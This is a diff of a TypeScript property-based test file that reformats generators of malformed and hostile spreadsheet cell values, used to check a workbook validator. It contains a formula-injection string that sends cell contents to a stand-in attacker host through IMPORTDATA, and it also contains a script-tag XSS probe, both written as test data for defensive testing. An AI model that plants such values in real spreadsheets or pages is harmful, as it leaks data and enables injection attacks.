@@ -28,26 +28,48 @@ const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';
 
 /** Hostile text any column may receive; in a typed column it is a bad value. */
 const HOSTILE: readonly Junk[] = [
-  { text: FORMULA }, { text: '+44 7700 900123' }, { text: '-' }, { text: '@reception' }, { text: LONG }, { text: '<script>alert(1)</script>' },
-  { text: 'lots' }, { text: '11/30/2026 14:05' }, { text: 'last Tuesday' }, { text: '1000-01-01' }, { text: "'quoted" }, { text: '' },
+  { text: FORMULA },
+  { text: '+44 7700 900123' },
+  { text: '-' },
+  { text: '@reception' },
+  { text: LONG },
+  { text: '<script>alert(1)</script>' },
+  { text: 'lots' },
+  { text: '11/30/2026 14:05' },
+  { text: 'last Tuesday' },
+  { text: '1000-01-01' },
+  { text: "'quoted" },
+  { text: '' },
 ];
 
 /** Values that are bad for a column of each type (besides the hostile text). */
 function badFor(col: ColumnDef): readonly Junk[] {
   switch (col.type) {
     case 'date':
-    case 'datetime': return [{ date: [20226, 8, 1] }, { date: [1066, 9, 14, 12] }, { date: [3000, 0, 1, 12] }, { number: -5 }];
-    case 'number': return [{ number: -4 }, { date: [2026, 8, 1] }];
-    case 'integer': return [{ number: 0 }, { number: 1.5 }, { number: -3 }];
-    case 'percent': return [{ number: 150 }, { number: -1 }];
-    case 'enum': return [{ text: `${col.values![0]}x` }, { text: 'Urgentt' }];
-    case 'yesno': return [{ text: 'maybe' }];
-    case 'email': return [{ text: 'jo.harris@' }];
-    case 'id': return [{ date: [2026, 8, 1] }];
-    case 'ref': return [{ date: [2026, 8, 1] }, { text: 'NOSUCH' }];
-    case 'refs': return [{ text: 'NOSUCH' }];
-    case 'hours': return [{ text: 'Mon-Fry 08:00-18:00' }, { text: 'Mon-Fri 25:00-26:00' }, { text: 'Weekdays, roughly' }];
-    default: return col.key === 'timeZone' ? [{ text: 'Europe/Londn' }, { text: 'Mars/Olympus' }] : [];
+    case 'datetime':
+      return [{ date: [20226, 8, 1] }, { date: [1066, 9, 14, 12] }, { date: [3000, 0, 1, 12] }, { number: -5 }];
+    case 'number':
+      return [{ number: -4 }, { date: [2026, 8, 1] }];
+    case 'integer':
+      return [{ number: 0 }, { number: 1.5 }, { number: -3 }];
+    case 'percent':
+      return [{ number: 150 }, { number: -1 }];
+    case 'enum':
+      return [{ text: `${col.values![0]}x` }, { text: 'Urgentt' }];
+    case 'yesno':
+      return [{ text: 'maybe' }];
+    case 'email':
+      return [{ text: 'jo.harris@' }];
+    case 'id':
+      return [{ date: [2026, 8, 1] }];
+    case 'ref':
+      return [{ date: [2026, 8, 1] }, { text: 'NOSUCH' }];
+    case 'refs':
+      return [{ text: 'NOSUCH' }];
+    case 'hours':
+      return [{ text: 'Mon-Fry 08:00-18:00' }, { text: 'Mon-Fri 25:00-26:00' }, { text: 'Weekdays, roughly' }];
+    default:
+      return col.key === 'timeZone' ? [{ text: 'Europe/Londn' }, { text: 'Mars/Olympus' }] : [];
   }
 }
 
@@ -72,7 +94,10 @@ export function junkOf(col: ColumnDef, pick: number): { junk: Junk; mustReport: 
 }
 
 const TIMES: Partial<Record<TabKey, [string, string]>> = {
-  incidents: ['Opened', 'Resolved'], closures: ['From', 'To'], holds: ['From', 'Until'], contracts: ['Start', 'Renewal'],
+  incidents: ['Opened', 'Resolved'],
+  closures: ['From', 'To'],
+  holds: ['From', 'Until'],
+  contracts: ['Start', 'Renewal'],
 };
 const WITH_ID = tabOrder().filter((k) => tabDef(k).columns.some((c) => c.type === 'id'));
 /** The tabs the example school fills (the Documents tab starts empty). */
@@ -81,15 +106,26 @@ const FILLED = tabOrder().filter((k) => k !== 'documents');
 const fraction = fc.double({ min: 0, max: 0.999, noNaN: true });
 export const damageArb: fc.Arbitrary<Damage> = fc.oneof(
   { weight: 8, arbitrary: fc.record({ kind: fc.constant('cell' as const), tab: fc.constantFrom(...FILLED), at: fraction, pick: fraction, junk: fraction }) },
-  { weight: 1, arbitrary: fc.record({ kind: fc.constant('duplicateId' as const), tab: fc.constantFrom(...WITH_ID.filter((k) => k !== 'documents')), at: fraction }) },
+  {
+    weight: 1,
+    arbitrary: fc.record({ kind: fc.constant('duplicateId' as const), tab: fc.constantFrom(...WITH_ID.filter((k) => k !== 'documents')), at: fraction }),
+  },
   { weight: 1, arbitrary: fc.record({ kind: fc.constant('reverse' as const), tab: fc.constantFrom(...(Object.keys(TIMES) as TabKey[])), at: fraction }) },
   { weight: 1, arbitrary: fc.record({ kind: fc.constant('move' as const), tab: fc.constantFrom(...FILLED), from: fraction, to: fraction }) },
   { weight: 1, arbitrary: fc.record({ kind: fc.constant('grow' as const), rows: fc.integer({ min: 1001, max: 1400 }) }) },
-  { weight: 1, arbitrary: fc.record({ kind: fc.constant('rename' as const), tab: fc.constantFrom(...FILLED), to: fc.constantFrom('Old %s', '%s (2025)', '%s log') }) },
+  {
+    weight: 1,
+    arbitrary: fc.record({ kind: fc.constant('rename' as const), tab: fc.constantFrom(...FILLED), to: fc.constantFrom('Old %s', '%s (2025)', '%s log') }),
+  },
 );
 
 /** A cell Check workbook must name: the column, or any column of the row when `column` is undefined. */
-export interface Expected { readonly tab: string; readonly row: number; readonly column?: string; readonly why: string }
+export interface Expected {
+  readonly tab: string;
+  readonly row: number;
+  readonly column?: string;
+  readonly why: string;
+}
 
 const sheetOf = (rt: OfflineRuntime, key: TabKey) => (rt.spreadsheet as unknown as Ss).getSheetByName(tabDef(key).name);
 
@@ -146,7 +182,13 @@ export function applyDamage(rt: OfflineRuntime, damages: readonly Damage[]): Exp
       const formats = all.getNumberFormats();
       const from = Math.floor(d.from * width);
       const to = Math.floor(d.to * width);
-      const move = <T>(rows: T[][]) => rows.map((r) => { const x = [...r]; const [c] = x.splice(from, 1); x.splice(to, 0, c); return x; });
+      const move = <T>(rows: T[][]) =>
+        rows.map((r) => {
+          const x = [...r];
+          const [c] = x.splice(from, 1);
+          x.splice(to, 0, c);
+          return x;
+        });
       all.setNumberFormats(move(formats));
       all.setValues(move(values));
       continue;
